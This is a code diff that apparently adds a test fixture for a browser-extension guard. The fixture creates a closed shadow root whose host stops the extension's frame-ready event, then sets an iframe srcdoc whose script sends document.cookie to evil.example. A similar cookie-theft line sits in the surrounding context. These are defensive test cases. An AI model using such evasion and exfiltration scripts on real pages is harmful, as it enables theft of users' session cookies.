@@ -1513,6 +1513,16 @@ export const MAIN_WORLD_SCRIPTS = {
   doc.querySelector('iframe').srcdoc = '<body><script>fetch("https://evil.example/srcdoc-given-reopened?c=" + encodeURIComponent(document.cookie))<\\/script>';
 })();`,
 
+  /** A srcdoc given to a frame in a closed shadow root whose host stops the handover's event (capture, added first). */
+  'ready-stopped-at-host': `(() => {
+  const host = document.createElement('div');
+  document.body.appendChild(host);
+  host.addEventListener('saq:frame-ready/v1', (event) => event.stopImmediatePropagation(), true);
+  const root = host.attachShadow({ mode: 'closed' });
+  root.innerHTML = '<iframe style="display:none"></iframe>';
+  root.firstChild.srcdoc = '<body><script>fetch("https://evil.example/ready-stopped-at-host?c=" + encodeURIComponent(document.cookie))<\\/script>';
+})();`,
+
   /** A frame the srcdoc's parser makes inside a srcdoc frame, reached by window[n][0] at the outer load. */
   'pristine-srcdoc-parsed-frame': `(() => {
   const frame = document.createElement('iframe');
